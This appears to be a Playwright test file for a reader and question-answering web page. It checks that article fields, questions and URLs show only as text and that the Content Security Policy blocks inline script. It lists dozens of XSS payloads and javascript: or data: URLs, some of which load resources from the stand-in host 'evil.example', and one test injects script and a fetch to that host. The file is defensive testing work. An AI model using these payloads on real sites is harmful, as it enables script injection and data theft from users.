"""Hostile titles, bodies, addresses and questions in a real browser: none runs, none leaves."""

import json
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from index.article import Article
from rag.web import page as web_page
from tests.rag.web.conftest import Site
from tests.rag.web.test_page import answered, ask, marked

OUT = "http://evil.example"
PAYLOADS = (
    "<script>alert(1)</script>",
    f"<script src={OUT}/x.js></script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={OUT}/pixel.gif>",
    f'<img srcset="{OUT}/a.png 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    f"<video src={OUT}/v.mp4 autoplay></video>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    f"<iframe src={OUT}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={OUT}/o.swf></object>",
    f"<embed src={OUT}/e.swf>",
    f"<link rel=stylesheet href={OUT}/s.css>",
    f"<style>@import '{OUT}/i.css';</style>",
    f"<div style='background:url({OUT}/b.png)'>x</div>",
    f"<base href={OUT}/>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<form action={OUT}><button>x</button></form>",
    "<a href=javascript:alert(1)>klik</a>",
    f"![gambar]({OUT}/m.png)",
    "[klik](javascript:alert(1))",
    f"[1]({OUT}) [2][3]",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover=alert(1) x='",
    "`${alert(1)}`",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{#each this}}{{this}}{{/each}}",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<button class=marker data-event=cite data-turn=0 data-marker=1>[1]</button>",
    "$$\\href{javascript:alert(1)}{x}$$",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example",
    "http:",
    "http://[",
    'https://ok.example/"onmouseover="alert(1)',
)


def foreign(page: Page) -> int:
    """Elements within what is drawn from texts that are not of the page's own drawing."""
    return page.locator(
        ":is(#transcript, #examples, #reader-view, #asked, #added) :is(script, img, svg, iframe,"
        " object, embed, link, style, form, video, math, input, select, base, meta,"
        " details:not(:is(.legend, .sources, .actions) > details),"
        " table, marquee, body, [onerror], [onload], [onmouseover], a:not(.byline a))"
    ).count()


def test_payloads_everywhere_show_as_typed(site: Site) -> None:
    page = site.new_page()
    for number, payload in enumerate(PAYLOADS):
        site.desk.add(
            Article(
                id=f"x{number} {payload}",
                title=f"Judul {payload}",
                text=f"Kalimat jahat nomor{number:04d} {payload}\nBaris kedua {payload}",
                url=ADDRESSES[number % len(ADDRESSES)],
                published=payload,
                author=payload,
                outlet=payload,
                language=payload,
            )
        )
    page.reload()
    expect(page.locator("#reader-view .list li")).to_have_count(len(PAYLOADS) + 2)
    drawn = page.locator("#reader-view .list").text_content() or ""
    assert [payload for payload in PAYLOADS if f"Judul {payload}" not in drawn] == []
    for number, payload in enumerate(PAYLOADS):
        page.locator("#reader-view .list button").filter(has_text=f"Judul {payload}").first.click()
        body = page.locator("#reader-view .body")
        expect(body).to_contain_text(f"nomor{number:04d}")
        assert f"nomor{number:04d} {payload}" in (body.text_content() or "")
        assert page.locator("#reader-view .marker").count() == 0
        for link in page.locator("#reader-view a").all():
            assert (link.get_attribute("href") or "").startswith("https://ok.example/")
        assert foreign(page) == 0
        page.get_by_role("button", name="Semua artikel").click()
        expect(page.locator("#reader-view .list li")).to_have_count(len(PAYLOADS) + 2)
    page.wait_for_timeout(300)  # whatever would run, has


def test_payloads_in_questions_and_answers_show_as_typed(site: Site) -> None:
    body = "\n".join(f"Kalimat jahat bernama {payload}" for payload in PAYLOADS)
    site.desk.add(Article("all", "Semua", body))
    page = site.new_page()
    for number, payload in enumerate(PAYLOADS, 1):
        ask(page, f"Kalimat jahat bernama {payload}")
        answered(page, number)
        question = page.locator(".question").nth(number - 1)
        assert question.text_content() == f"Kalimat jahat bernama {payload}"
    assert foreign(page) == 0
    genuine = page.locator(".marker").count()
    assert page.locator('.marker[data-event="cite"]').count() == genuine
    page.locator(".answer .marker").last.click()
    assert marked(page).strip() in body
    assert foreign(page) == 0


def test_markers_and_links_typed_in_an_article_are_text(site: Site) -> None:
    site.desk.add(
        Article("fake", "Palsu", "Menara kapur runtuh [1] [2] menurut [situs](http://x).")
    )
    page = site.new_page()
    ask(page, "Menara kapur runtuh kapan?")
    answered(page)
    sentence = page.locator(".answer .sentence").first
    assert sentence.locator("button").all_text_contents() == ["[1]"]
    assert sentence.text_content() == (
        "Menara kapur runtuh [1] [2] menurut [situs](http://x).\N{NO-BREAK SPACE}[1]"
    )
    assert sentence.locator("a").count() == 0


def test_characters_that_no_page_may_hold_are_replaced(site: Site, tmp_path: Path) -> None:
    page = site.new_page()
    odd = tmp_path / "aneh.jsonl"
    record = {"id": "odd", "title": "Aneh \ud800", "text": "Isi \x00 lempung \udfff biru."}
    odd.write_text(json.dumps(record))
    page.locator("#adding > button").click()
    page.locator("#adding input[type=file]").set_input_files(odd)
    expect(page.locator("#added .success")).to_have_text("Ditambahkan: Aneh ?")
    ask(page, "Lempung biru?")
    answered(page)
    page.locator(".answer .marker").first.click()
    assert marked(page) == "Isi \N{REPLACEMENT CHARACTER} lempung ? biru."


def test_a_full_queue_says_so_in_the_page_and_keeps_the_question(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = site.new_page()
    queue = site.queue
    monkeypatch.setattr(queue, "max_size", 0)
    ask(page, "Kapan dibuka?")
    expect(page.locator("#spoken")).to_have_text(
        "Sedang banyak pertanyaan. Tunggu sebentar, lalu coba lagi."
    )
    assert page.locator("#question textarea").input_value() == "Kapan dibuka?"
    monkeypatch.setattr(queue, "max_size", web_page.LONGEST_QUEUE)
    page.locator("#send").click()
    answered(page)


def test_a_file_too_large_is_not_sent(site: Site, tmp_path: Path) -> None:
    page = site.new_page(locale="en-GB")
    page.locator("#adding > button").click()
    large = tmp_path / "large.txt"
    large.write_bytes(b"a" * (20 * 1024 * 1024 + 1))
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url))
    page.locator("#adding input[type=file]").set_input_files(large)
    expect(page.locator("#spoken")).to_have_text(
        "This file is larger than 20 MB. Split it, or choose another file."
    )
    assert sent == []


def test_the_policy_stops_what_escaping_would_have_let_through(site: Site) -> None:
    page = site.new_page()
    page.evaluate(
        """async () => {
          document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>");
          const script = document.createElement("script");
          script.textContent = "alert(2)";
          document.body.append(script);
          await fetch("http://evil.example/").catch(() => 0);
        }"""
    )
    page.wait_for_timeout(300)
    refused = [trouble for trouble in site.troubles if "Content Security Policy" in trouble]
    assert any("inline event handler" in trouble for trouble in refused)
    assert any("inline script" in trouble for trouble in refused)
    assert any("evil.example" in trouble for trouble in refused)
    assert not any("dialog" in trouble for trouble in site.troubles)
    site.troubles.clear()
